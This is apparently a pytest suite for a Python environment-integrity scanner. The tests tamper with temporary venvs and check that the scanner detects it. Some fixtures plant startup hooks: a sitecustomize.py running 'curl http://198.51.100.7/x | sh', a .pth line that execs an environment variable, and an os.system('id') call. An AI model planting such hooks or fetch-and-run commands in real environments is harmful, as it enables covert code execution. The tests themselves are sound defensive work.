"""`mlscan env`: real virtual environments built in tmp dirs, tampered with, then checked.

Wheels are built here from code (zip + RECORD written by hand, as pip expects them); nothing is
downloaded. Distributions are installed by unpacking the wheel like an installer does, and once
through the real pip to prove pip's own RECORD (compiled .pyc, INSTALLER, REQUESTED,
direct_url.json) verifies clean.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mlscan import envcheck
from mlscan.cli import app
from mlscan.envcheck_hash import hash_file, hash_many, record_b64
from mlscan.envcheck_hooks import STARTUP_VARS, read_pth
from mlscan.envcheck_record import parse_record
from mlscan.envcheck_report import to_report
from mlscan.envcheck_target import TargetEnv, TargetError, probe_python, resolve
from mlscan.model import Finding, Severity

CLEAN_ENV: dict[str, str | None] = {name: None for name in STARTUP_VARS}


# -- building and installing wheels ---------------------------------------------------------
def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(out_dir: Path, name: str, version: str, files: dict[str, bytes]) -> Path:
    """A minimal, valid pure-Python wheel with a correct RECORD."""
    info = f"{name}-{version}.dist-info"
    contents = dict(files)
    contents[f"{info}/METADATA"] = (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
                                    ).encode()
    contents[f"{info}/WHEEL"] = (b"Wheel-Version: 1.0\nGenerator: mlscan-tests\n"
                                 b"Root-Is-Purelib: true\nTag: py3-none-any\n")
    record = "".join(f"{path},sha256={_b64(data)},{len(data)}\n" for path, data in contents.items())
    contents[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    wheel = out_dir / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in contents.items():
            zf.writestr(path, data)
    return wheel


def install_wheel(wheel: Path, site_dir: Path) -> None:
    """Unpack like an installer: files, INSTALLER, and RECORD extended with it."""
    with zipfile.ZipFile(wheel) as zf:
        zf.extractall(site_dir)
        info = next(n.split("/")[0] for n in zf.namelist() if n.endswith(".dist-info/RECORD"))
    (site_dir / info / "INSTALLER").write_text("mlscan-tests\n")
    with open(site_dir / info / "RECORD", "a", encoding="utf-8") as fh:
        fh.write(f"{info}/INSTALLER,sha256={_b64(b'mlscan-tests' + bytes([10]))},13\n")


TINY = {
    "tinypkg/__init__.py": b"from tinypkg.core import add\n",
    "tinypkg/core.py": b"def add(a, b):\n    return a + b\n",
    "tinypkg/data/table.json": b'{"a": 1}\n',
}
TORCH = {
    "torch/__init__.py": b"__version__ = '0.0.0-fake'\n",
    "torch/random.py": b"def manual_seed(seed):\n    return seed\n",
    "torch/optim/adamw.py": b"class AdamW:\n    def step(self):\n        return None\n",
}
HELPER = {"helper_mod.py": b"VALUE = 1\n"}


def make_venv(root: Path) -> tuple[Path, Path]:
    """(python, site-packages) of a fresh venv with tinypkg, a fake torch and a module."""
    venv = root / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    site = next((venv / "lib").glob("python3*/site-packages"))
    wheels = root / "wheels"
    wheels.mkdir()
    for name, files in (("tinypkg", TINY), ("torch", TORCH), ("helper_mod", HELPER)):
        install_wheel(build_wheel(wheels, name, "1.0", files), site)
    return python, site


@pytest.fixture()
def venv(tmp_path: Path) -> tuple[Path, Path]:
    return make_venv(tmp_path)


def run_check(python: Path, environ: dict[str, str] | None = None) -> list[Finding]:
    target = probe_python(str(python))
    result = envcheck.check(target, environ={} if environ is None else environ)
    return list(to_report(result, result.items).findings)


def codes(findings: Iterable[Finding]) -> set[tuple[str, str]]:
    return {(f.rule_id, f.path) for f in findings}


def cli(*args: str, env: dict[str, str | None] | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["env", *args], env={**CLEAN_ENV, **(env or {})})
    return result.exit_code, result.stdout


# -- the bars from the issue ----------------------------------------------------------------
def test_untouched_venv_is_clean_and_exits_0(venv: tuple[Path, Path]) -> None:
    python, _ = venv
    code, out = cli("--python", str(python), "--format", "json")
    data = json.loads(out)
    assert data["findings"] == []
    assert code == 0
    assert data["summary"]["files"] >= 10


def test_one_changed_byte_in_installed_py_is_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    path = site / "tinypkg" / "core.py"
    data = bytearray(path.read_bytes())
    data[-2] = ord("c")  # "a + b" -> "a + c": same size, one byte
    path.write_bytes(bytes(data))
    code, out = cli("--python", str(python), "--format", "json", "--no-code")
    found = json.loads(out)["findings"]
    assert [(f["rule_id"], f["path"], f["severity"]) for f in found] == [
        ("MLS501", "tinypkg/core.py", "high")]
    assert code == 1


def test_changed_torch_source_is_critical(venv: tuple[Path, Path]) -> None:
    python, site = venv
    with open(site / "torch" / "optim" / "adamw.py", "a") as fh:
        fh.write("import random\nrandom.seed(0)\n")
    found = run_check(python)
    assert [(f.rule_id, f.path, f.severity) for f in found] == [
        ("MLS501", "torch/optim/adamw.py", Severity.CRITICAL)]


def test_added_pth_with_import_line_is_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "zz_fast.pth").write_text("# speeds things up\n/nonexistent\n"
                                      "import os; exec(os.environ.get('X', ''))\n")
    found = run_check(python)
    assert [(f.rule_id, f.path, f.line, f.severity) for f in found] == [
        ("MLS505", "zz_fast.pth", 3, Severity.HIGH)]
    assert "exec(" in found[0].evidence


def test_dropped_sitecustomize_is_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "sitecustomize.py").write_text("import random\nrandom.seed(1234)\n")
    code, out = cli("--python", str(python), "--format", "json", "--no-code")
    found = json.loads(out)["findings"]
    assert [(f["rule_id"], f["path"]) for f in found] == [("MLS506", "sitecustomize.py")]
    assert code == 1


def test_deleted_file_is_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "tinypkg" / "data" / "table.json").unlink()
    (site / "torch" / "random.py").unlink()
    found = run_check(python)
    assert sorted((f.rule_id, f.path, f.severity) for f in found) == [
        ("MLS502", "tinypkg/data/table.json", Severity.MEDIUM),
        ("MLS502", "torch/random.py", Severity.HIGH)]


# -- what must stay quiet -------------------------------------------------------------------
def test_legitimately_changing_files_stay_quiet(venv: tuple[Path, Path]) -> None:
    python, site = venv
    info = site / "tinypkg-1.0.dist-info"
    (info / "INSTALLER").write_text("pip\n")
    (info / "REQUESTED").write_text("")
    (info / "direct_url.json").write_text('{"url": "file:///tmp/x.whl", "archive_info": {}}')
    cache = site / "tinypkg" / "__pycache__"
    cache.mkdir()
    (cache / "core.cpython-311.pyc").write_bytes(b"\x00" * 32)
    assert run_check(python) == []


def test_benign_well_known_pth_files_stay_quiet(venv: tuple[Path, Path]) -> None:
    python, site = venv
    wheels = site.parent / "wheels2"
    wheels.mkdir()
    precedence = (b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
                  b"'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    editable = b"import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"
    nspkg = (b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
             b"sys._getframe(1).f_locals['sitedir'], *('nsdemo',));m = "
             b"sys.modules.setdefault('nsdemo', types.ModuleType('nsdemo'))\n")
    install_wheel(build_wheel(wheels, "setuptools_like", "1.0", {
        "distutils-precedence.pth": precedence,
        "__editable__.demo-1.0.pth": editable,
        "__editable___demo_1_0_finder.py": b"def install():\n    pass\n",
        "nsdemo-1.0-nspkg.pth": nspkg,
        "plainpath.pth": b"tinypkg\n",
    }), site)
    assert run_check(python) == []


def test_pip_installed_wheel_verifies_clean(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    wheel = build_wheel(tmp_path, "pipdemo", "2.0", {
        "pipdemo/__init__.py": b"X = 1\n", "pipdemo/sub/mod.py": b"def f():\n    return 2\n"})
    subprocess.run([sys.executable, "-m", "pip", "--python", str(venv / "bin" / "python"),
                    "install", "--no-deps", "--no-index", "--quiet", str(wheel)],
                   check=True, env={**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
    site = next((venv / "lib").glob("python3*/site-packages"))
    assert list(site.glob("pipdemo/__pycache__/*.pyc")), "pip compiled byte-code"
    assert run_check(venv / "bin" / "python") == []
    (site / "pipdemo" / "sub" / "mod.py").write_text("def f():\n    return 3\n")
    assert codes(run_check(venv / "bin" / "python")) == {("MLS501", "pipdemo/sub/mod.py")}


# -- added code, unverifiable installs ------------------------------------------------------
def test_unlisted_code_inside_packages_is_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "torch" / "optim" / "_fix.py").write_text("x = 1\n")
    (site / "tinypkg" / "core.pyc").write_bytes(b"\x00" * 16)  # sourceless, importable
    (site / "tinypkg" / "notes.txt").write_text("not code\n")
    found = run_check(python)
    assert sorted((f.rule_id, f.path, f.severity) for f in found) == [
        ("MLS503", "tinypkg/core.pyc", Severity.HIGH),
        ("MLS503", "torch/optim/_fix.py", Severity.CRITICAL)]


def test_unowned_top_level_code_and_path_pth_are_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "dropped").mkdir()
    (site / "dropped" / "__init__.py").write_text("")
    (site / "loose.py").write_text("")
    (site / "extra.pth").write_text("dropped\n")
    found = {(f.rule_id, f.path): f.severity for f in run_check(python)}
    assert found == {("MLS503", "dropped"): Severity.MEDIUM,
                     ("MLS503", "loose.py"): Severity.HIGH,
                     ("MLS503", "extra.pth"): Severity.MEDIUM}


def test_unverifiable_distributions_are_not_clean(venv: tuple[Path, Path]) -> None:
    python, site = venv
    info = site / "tinypkg-1.0.dist-info"
    (info / "direct_url.json").write_text(
        '{"url": "file:///src/tinypkg", "dir_info": {"editable": true}}')
    (site / "torch-1.0.dist-info" / "RECORD").unlink()
    (site / "oldstyle-0.1.egg-info").mkdir()
    (site / "oldstyle-0.1.egg-info" / "PKG-INFO").write_text("Name: oldstyle\nVersion: 0.1\n")
    found = run_check(python)
    assert codes(found) == {("MLS504", "tinypkg-1.0.dist-info"),
                            ("MLS504", "torch-1.0.dist-info"),
                            ("MLS504", "oldstyle-0.1.egg-info")}
    # torch's files are now unowned: not reported file by file, and never as clean
    assert all(f.severity is Severity.MEDIUM for f in found)


# -- environment variables and sys.path -----------------------------------------------------
def test_startup_environment_variables_are_reported(venv: tuple[Path, Path],
                                                    tmp_path: Path) -> None:
    python, _ = venv
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "sitecustomize.py").write_text("print('hi')\n")
    env = {"LD_PRELOAD": "/tmp/libx.so", "PYTHONPATH": str(extra), "HOME": "/root"}
    found = {(f.rule_id, f.path): f.severity for f in run_check(python, env)}
    assert found == {("MLS507", "env:LD_PRELOAD"): Severity.HIGH,
                     ("MLS507", "env:PYTHONPATH"): Severity.MEDIUM,
                     ("MLS506", str(extra / "sitecustomize.py")): Severity.HIGH}


def test_cli_reads_the_process_environment(venv: tuple[Path, Path]) -> None:
    python, _ = venv
    code, out = cli("--python", str(python), "-f", "json", env={"LD_PRELOAD": "/x/libhook.so"})
    found = json.loads(out)["findings"]
    assert [(f["rule_id"], f["evidence"]) for f in found] == [
        ("MLS507", "LD_PRELOAD=/x/libhook.so")]
    assert code == 1


def test_path_mode_needs_no_interpreter(venv: tuple[Path, Path]) -> None:
    _, site = venv
    (site / "torch" / "random.py").write_text("def manual_seed(seed):\n    return 0\n")
    target = resolve(None, site)
    result = envcheck.check(target, environ={})
    assert codes(to_report(result, result.items).findings) == {
        ("MLS501", "torch/random.py")}


# -- locks ----------------------------------------------------------------------------------
def test_lock_accepts_hooks_and_patches_then_catches_changes(venv: tuple[Path, Path],
                                                             tmp_path: Path) -> None:
    python, site = venv
    lock = tmp_path / "env.lock.json"
    (site / "sitecustomize.py").write_text("import os\n")
    (site / "torch" / "random.py").write_text("def manual_seed(seed):\n    return seed  # ok\n")
    code, out = cli("--python", str(python), "-f", "json", "--no-code", "--lock", str(lock))
    assert code == 0 and json.loads(out)["findings"] == []
    keys = {e["key"] for e in json.loads(lock.read_text())["entries"]}
    assert keys == {"sitecustomize.py", "torch/random.py"}
    code, out = cli("--python", str(python), "-f", "json", "--no-code", "--verify-lock", str(lock))
    assert code == 0 and json.loads(out)["findings"] == []
    (site / "sitecustomize.py").write_text("import os; os.system('id')\n")
    code, out = cli("--python", str(python), "-f", "json", "--no-code", "--verify-lock", str(lock))
    assert [(f["rule_id"], f["path"]) for f in json.loads(out)["findings"]] == [
        ("MLS508", "sitecustomize.py")]
    assert code == 1


def test_bad_lock_and_bad_flags_exit_2(venv: tuple[Path, Path], tmp_path: Path) -> None:
    python, site = venv
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    assert cli("--python", str(python), "--verify-lock", str(bad))[0] == 2
    assert cli("--python", str(python), "--path", str(site))[0] == 2
    assert cli("--python", str(tmp_path / "nope"))[0] == 2
    assert cli("--path", str(tmp_path / "nope"))[0] == 2
    assert cli("--python", str(python), "--format", "xml")[0] == 2


def test_verbose_prints_throughput(venv: tuple[Path, Path]) -> None:
    python, _ = venv
    result = CliRunner().invoke(app, ["env", "--python", str(python), "-v"], env=CLEAN_ENV)
    assert "files/s" in result.stderr and "MB/s" in result.stderr


# -- hostile input and units ----------------------------------------------------------------
def test_fifo_and_malformed_record_do_not_hang_or_crash(venv: tuple[Path, Path]) -> None:
    python, site = venv
    os.unlink(site / "tinypkg" / "core.py")
    os.mkfifo(site / "tinypkg" / "core.py")
    record = site / "helper_mod-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + "broken.py,sha256,notanumber\n")
    os.mkfifo(site / "zz_hang.pth")
    torch_record = site / "torch-1.0.dist-info" / "RECORD"
    torch_record.unlink()
    os.mkfifo(torch_record)
    found = codes(run_check(python))
    assert ("MLS509", "tinypkg/core.py") in found
    assert ("MLS509", "helper_mod-1.0.dist-info/RECORD") in found
    assert ("MLS509", "zz_hang.pth") in found
    assert ("MLS504", "torch-1.0.dist-info") in found


def test_probe_does_not_run_pth_or_sitecustomize(venv: tuple[Path, Path],
                                                 tmp_path: Path) -> None:
    python, site = venv
    marker = tmp_path / "ran"
    (site / "boom.pth").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n")
    (site / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w')\n")
    target = probe_python(str(python))
    assert not marker.exists()
    assert target.site_dirs == (site,)


def test_probe_of_a_non_python_fails_cleanly(tmp_path: Path) -> None:
    with pytest.raises(TargetError):
        probe_python("/bin/false")


def test_record_hash_format_matches_wheel_spec(tmp_path: Path) -> None:
    path = tmp_path / "f"
    path.write_bytes(b"hello\n" * 1000)
    r = hash_file(str(path))
    assert r.b64 == _b64(path.read_bytes()) and "=" not in (r.b64 or "")
    assert r.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert record_b64(hashlib.sha256(b"").digest()) == "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"
    assert hash_file(str(tmp_path / "missing")).missing


def test_parallel_hashing_matches_serial(tmp_path: Path) -> None:
    items = []
    for i in range(600):
        p = tmp_path / f"f{i}"
        p.write_bytes(os.urandom(i * 37 % 5000))
        items.append((str(p), "sha256"))
    big = tmp_path / "big"
    big.write_bytes(os.urandom(3 * (1 << 20) + 5))
    items.append((str(big), "sha256"))
    parallel = hash_many(items, workers=4)
    assert {k: v.b64 for k, v in parallel.items()} == {p: hash_file(p).b64 for p, _ in items}


def test_parse_record_edge_cases() -> None:
    data = (b'pkg/a.py,sha256=abc,3\n"pkg/with,comma.py",sha256=def,4\n'
            b"pkg-1.dist-info/RECORD,,\n\npkg/bad.py,sha256=,x\n")
    entries, bad = parse_record(data)
    assert [e.path for e in entries] == ["pkg/a.py", "pkg/with,comma.py",
                                         "pkg-1.dist-info/RECORD", "pkg/bad.py"]
    assert entries[2].digest is None and entries[0].size == 3
    assert bad == ["pkg/bad.py", "pkg/bad.py"]


def test_pth_classification(tmp_path: Path) -> None:
    p = tmp_path / "mixed.pth"
    p.write_text("#import os\n\nimport\tsys\n" + str(tmp_path) + "\nimportant_dir\n")
    info = read_pth(p)
    assert [line.number for line in info.exec_lines] == [3]
    assert info.path_entries == (str(tmp_path),) and not info.benign
    fake = tmp_path / "evil-nspkg.pth"
    fake.write_text("import sys, types, os;exec('x')\n")
    assert not read_pth(fake).nspkg


def test_display_paths_are_relative_to_site_packages(tmp_path: Path) -> None:
    target = TargetEnv(site_dirs=(tmp_path,))
    assert target.display(tmp_path / "a" / "b.py") == "a/b.py"
    assert target.display("/elsewhere/x.py") == "/elsewhere/x.py"


def test_files_of_a_recordless_distribution_are_not_reported_twice(
        venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "helper_mod-1.0.dist-info" / "RECORD").unlink()
    found = run_check(python)
    assert codes(found) == {("MLS504", "helper_mod-1.0.dist-info")}


def test_every_env_rule_has_complete_docs() -> None:
    from mlscan import registry

    rules = [r for code, r in registry.all_rules().items() if code.startswith("MLS5")]
    assert [r.code for r in rules] == [f"MLS5{i:02d}" for i in range(1, 11)]
    for rule in rules:
        d = rule.doc
        assert d.what and d.why and d.example and d.use_instead, rule.code
        assert rule.name == rule.name.lower() and " " not in rule.name


def test_hex_digests_in_record_are_accepted(venv: tuple[Path, Path]) -> None:
    python, site = venv
    record = site / "helper_mod-1.0.dist-info" / "RECORD"
    data = (site / "helper_mod.py").read_bytes()
    text = record.read_text().replace(f"sha256={_b64(data)}",
                                      f"sha256={hashlib.sha256(data).hexdigest()}")
    record.write_text(text)
    assert run_check(python) == []
    (site / "helper_mod.py").write_text("VALUE = 2\n")
    assert codes(run_check(python)) == {("MLS501", "helper_mod.py")}


def test_system_package_stripped_libraries_are_medium(tmp_path: Path) -> None:
    site = tmp_path / "dist-packages"
    site.mkdir()
    wheel = build_wheel(tmp_path, "nativepkg", "1.0", {"nativepkg/_ext.so": b"\x7fELF" + b"x" * 64,
                                                       "nativepkg/__init__.py": b""})
    with zipfile.ZipFile(wheel) as zf:
        zf.extractall(site)  # like dpkg: no INSTALLER
    (site / "nativepkg" / "_ext.so").write_bytes(b"\x7fELF" + b"x" * 8)  # stripped
    result = envcheck.check(resolve(None, site), environ={})
    found = to_report(result, result.items).findings
    assert [(f.rule_id, f.path, f.severity) for f in found] == [
        ("MLS501", "nativepkg/_ext.so", Severity.MEDIUM)]


def test_sarif_locations_are_relative_to_site_packages(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "sitecustomize.py").write_text("import os\n")
    code, out = cli("--python", str(python), "-f", "sarif", "--no-code")
    run = json.loads(out)["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == site.as_uri() + "/"
    locs = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in run["results"]]
    assert locs == ["sitecustomize.py"] and code == 1


def test_hook_code_is_fed_to_the_code_analyzer(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "sitecustomize.py").write_text(
        "import subprocess\nsubprocess.Popen(['bash', '-c', 'curl http://198.51.100.7/x | sh'])\n")
    code, out = cli("--python", str(python.parent.parent), "-f", "json")  # venv folder works too
    found = json.loads(out)["findings"]
    assert ("MLS506", "sitecustomize.py") in {(f["rule_id"], f["path"]) for f in found}
    code_rules = {f["rule_id"] for f in found if f["path"] == "sitecustomize.py"} - {"MLS506"}
    assert code_rules and not any(r.startswith("MLS5") for r in code_rules)
    assert code == 1


# -- byte-code caches (--bytecode) ----------------------------------------------------------
def _cache(source: Path, code_text: str | None = None, filename: str | None = None) -> Path:
    """Write the cache Python would write for `source`; optionally with other code inside."""
    import importlib.util
    import marshal

    st = source.stat()
    header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
              + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
              + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
    text = source.read_text() if code_text is None else code_text
    code = compile(text, filename or str(source), "exec", dont_inherit=True)
    pyc = Path(importlib.util.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    pyc.write_bytes(header + marshal.dumps(code))
    return pyc


def test_bytecode_cache_matching_its_source_is_clean(venv: tuple[Path, Path]) -> None:
    python, site = venv
    _cache(site / "torch" / "random.py")
    _cache(site / "tinypkg" / "core.py", filename="/old/location/tinypkg/core.py")  # relocated
    (site / "tinypkg" / "__init__.py").write_text("# edited, so its cache is stale\n")
    result = envcheck.check(probe_python(str(python)), environ={}, bytecode=True)
    assert codes(to_report(result, result.items).findings) == {
        ("MLS501", "tinypkg/__init__.py")}


def test_tampered_bytecode_cache_with_valid_header_is_critical(venv: tuple[Path, Path]) -> None:
    python, site = venv
    _cache(site / "torch" / "random.py",
           code_text="def manual_seed(seed):\n    return 1234\n")
    _cache(site / "tinypkg" / "core.py", code_text="def add(a, b):\n    return a - b\n")
    code, out = cli("--python", str(python), "-f", "json", "--no-code", "--bytecode")
    found = {(f["rule_id"], f["path"], f["severity"]) for f in json.loads(out)["findings"]}
    tag = sys.implementation.cache_tag
    assert found == {("MLS510", f"torch/__pycache__/random.{tag}.pyc", "critical"),
                     ("MLS510", f"tinypkg/__pycache__/core.{tag}.pyc", "high")}
    assert code == 1
    # without --bytecode the same environment looks clean: the gap this flag closes
    assert run_check(python) == []


def test_stale_bytecode_cache_is_ignored(venv: tuple[Path, Path]) -> None:
    python, site = venv
    pyc = _cache(site / "torch" / "random.py", code_text="X = 1\n")
    data = bytearray(pyc.read_bytes())
    data[8] ^= 0xFF  # mtime no longer matches: Python recompiles instead of running it
    pyc.write_bytes(bytes(data))
    result = envcheck.check(probe_python(str(python)), environ={}, bytecode=True)
    assert result.items == []


def test_marshal_trees_ignore_set_order_and_back_references() -> None:
    import marshal

    from mlscan.envcheck_pyc import _tree

    ref = 0x80  # FLAG_REF: set depending on reference counts in the writing process
    inline = b"(" + (2).to_bytes(4, "little") + b"Z\x02abZ\x02ab"
    backref = (bytes([ord("(") | ref]) + (2).to_bytes(4, "little") + bytes([ord("Z") | ref])
               + b"\x02abr" + (1).to_bytes(4, "little"))
    assert marshal.loads(inline) == marshal.loads(backref)  # same value, different bytes
    assert _tree(inline) == _tree(backref)
    set_ab = b">" + (2).to_bytes(4, "little") + b"Z\x01aZ\x01b"
    set_ba = b">" + (2).to_bytes(4, "little") + b"Z\x01bZ\x01a"
    assert _tree(set_ab) == _tree(set_ba)
    src = "def f(x):\n    return x in {'alpha', 'beta'}\n"
    one = marshal.dumps(compile(src, "a.py", "exec"))
    assert _tree(one) == _tree(marshal.dumps(compile(src, "/elsewhere/a.py", "exec")))
    assert _tree(one) != _tree(marshal.dumps(compile(src.replace("beta", "gamma"), "a.py",
                                                     "exec")))


def test_pth_shipped_by_a_distribution_is_medium(venv: tuple[Path, Path]) -> None:
    python, site = venv
    wheels = site.parent / "wheels3"
    wheels.mkdir()
    install_wheel(build_wheel(wheels, "coverage_like", "1.0", {
        "coverage_like.pth": b"import os; 'COV' in os.environ and __import__('coverage_like')\n",
        "coverage_like/__init__.py": b""}), site)
    found = run_check(python)
    assert [(f.rule_id, f.path, f.severity) for f in found] == [
        ("MLS505", "coverage_like.pth", Severity.MEDIUM)]
    assert "coverage_like 1.0" in found[0].message


def test_lock_accepts_environment_values(venv: tuple[Path, Path], tmp_path: Path) -> None:
    python, _ = venv
    lock = tmp_path / "env.lock.json"
    base = ("--python", str(python), "-f", "json", "--no-code")
    assert cli(*base, "--lock", str(lock), env={"LD_LIBRARY_PATH": "/opt/cuda/lib64"})[0] == 0
    code, out = cli(*base, "--verify-lock", str(lock), env={"LD_LIBRARY_PATH": "/opt/cuda/lib64"})
    assert code == 0 and json.loads(out)["findings"] == []
    code, out = cli(*base, "--verify-lock", str(lock), env={"LD_LIBRARY_PATH": "/tmp/evil:/opt"})
    assert [(f["rule_id"], f["path"]) for f in json.loads(out)["findings"]] == [
        ("MLS508", "env:LD_LIBRARY_PATH")]
    assert code == 1


def test_entry_points_added_to_dist_info_are_reported(venv: tuple[Path, Path]) -> None:
    python, site = venv
    (site / "torch-1.0.dist-info" / "entry_points.txt").write_text(
        "[torch.backends]\nfast = helper_mod:install\n")
    (site / "tinypkg-1.0.dist-info" / "NOTES").write_text("x\n")
    found = {(f.rule_id, f.path): f.severity for f in run_check(python)}
    assert found == {("MLS503", "torch-1.0.dist-info/entry_points.txt"): Severity.HIGH,
                     ("MLS503", "tinypkg-1.0.dist-info/NOTES"): Severity.LOW}


def test_fail_on_and_output_follow_the_scan_contract(venv: tuple[Path, Path],
                                                      tmp_path: Path) -> None:
    python, site = venv
    (site / "tinypkg" / "core.py").write_text("def add(a, b):\n    return b\n")
    out_file = tmp_path / "report.json"
    code, out = cli("--python", str(python), "-f", "json", "--no-code", "--fail-on", "critical",
                    "-o", str(out_file))
    assert code == 0 and out == ""
    assert [f["rule_id"] for f in json.loads(out_file.read_text())["findings"]] == ["MLS501"]
    assert cli("--python", str(python), "--no-code", "--min-severity", "critical")[0] == 0
    assert cli("--python", str(python), "--no-code", "--exit-zero")[0] == 0
    assert cli("--python", str(python), "--no-code", "--ignore", "MLS501")[0] == 0
    assert cli("--python", str(python), "--no-code")[0] == 1


def test_probe_mirrors_site_for_venvs_with_and_without_system_packages(tmp_path: Path) -> None:
    from mlscan.envcheck_target import from_probe

    venv_site, base_site = tmp_path / "venv" / "site", tmp_path / "base" / "site"
    venv_site.mkdir(parents=True)
    base_site.mkdir(parents=True)
    cfg = tmp_path / "venv" / "pyvenv.cfg"
    probe: dict[str, object] = {
        "prefix": str(tmp_path / "base"), "base_prefix": str(tmp_path / "base"),
        "venv_cfg": str(cfg), "venv_site": [str(venv_site)], "site": [str(base_site)],
        "base_site": [str(base_site)], "user_site": str(tmp_path / "nouser"),
        "sys_path": ["/stdlib"], "cache_tag": "cpython-311"}
    cfg.write_text("home = /x\ninclude-system-site-packages = false\n")
    assert from_probe(probe, "py").site_dirs == (venv_site,)
    cfg.write_text("home = /x\ninclude-system-site-packages = true\n")
    assert from_probe(probe, "py").site_dirs == (venv_site, base_site)
    not_venv = {**probe, "venv_cfg": None}
    target = from_probe(not_venv, "py")
    assert target.site_dirs == (base_site,) and target.base_path == (Path("/stdlib"),)


def test_lock_also_accepts_code_findings_of_an_accepted_file(venv: tuple[Path, Path],
                                                             tmp_path: Path) -> None:
    python, site = venv
    lock = tmp_path / "env.lock.json"
    (site / "sitecustomize.py").write_text(
        "import subprocess\nsubprocess.Popen(['bash', '-c', 'curl http://198.51.100.7/x | sh'])\n")
    base = ("--python", str(python), "-f", "json")
    found = json.loads(cli(*base)[1])["findings"]
    assert len({f["rule_id"] for f in found}) >= 2  # MLS506 plus the code analyzer's rule
    assert cli(*base, "--lock", str(lock))[0] == 0
    code, out = cli(*base, "--verify-lock", str(lock))
    assert code == 0 and json.loads(out)["findings"] == []
    with open(site / "sitecustomize.py", "a") as fh:
        fh.write("# changed\n")
    found = json.loads(cli(*base, "--verify-lock", str(lock))[1])["findings"]
    assert "MLS508" in {f["rule_id"] for f in found} and len(found) >= 2


def test_checking_changes_nothing_and_runs_nothing(venv: tuple[Path, Path],
                                                   tmp_path: Path) -> None:
    python, site = venv
    marker = tmp_path / "ran"
    payload = f"open({str(marker)!r}, 'w')\n"
    (site / "sitecustomize.py").write_text(payload)
    (site / "usercustomize.py").write_text(payload)
    (site / "hook.pth").write_text(f"import builtins; {payload}")
    (site / "torch" / "random.py").write_text(payload)
    _cache(site / "torch" / "optim" / "adamw.py", code_text=payload)

    def tree() -> dict[str, bytes]:
        return {str(p): p.read_bytes() for p in sorted(site.parent.parent.parent.rglob("*"))
                if p.is_file()}

    before = tree()
    code, _ = cli("--python", str(python), "--bytecode", "-f", "json")
    assert code == 1
    assert not marker.exists(), "a hook ran during the check"
    assert tree() == before, "the check changed or created files in the environment"


def test_lock_remembers_verified_caches_so_bytecode_rechecks_only_changes(
        venv: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import mlscan.envcheck_pyc as pyc_mod

    python, site = venv
    good = _cache(site / "torch" / "random.py")
    _cache(site / "tinypkg" / "core.py")
    lock = tmp_path / "env.lock.json"
    base = ("--python", str(python), "-f", "json", "--no-code", "--bytecode")
    assert cli(*base, "--lock", str(lock))[0] == 0
    recorded = json.loads(lock.read_text())["bytecode"]
    assert set(recorded) == {good.relative_to(site).as_posix(),
                             f"tinypkg/__pycache__/core.{sys.implementation.cache_tag}.pyc"}
    compared: list[str] = []
    real = pyc_mod.compare_pairs

    def spy(pairs: list[tuple[str, str]], workers: int = 0) -> dict[str, pyc_mod.Verdict]:
        compared.extend(p for p, _ in pairs)
        return real(pairs, 1)

    monkeypatch.setattr(pyc_mod, "compare_pairs", spy)
    evil = _cache(site / "tinypkg" / "core.py", code_text="def add(a, b):\n    return 0\n")
    code, out = cli(*base, "--verify-lock", str(lock))
    assert compared == [str(evil)], "only the changed cache is recompiled"
    assert [(f["rule_id"], f["path"]) for f in json.loads(out)["findings"]] == [
        ("MLS510", evil.relative_to(site).as_posix())]
    assert code == 1
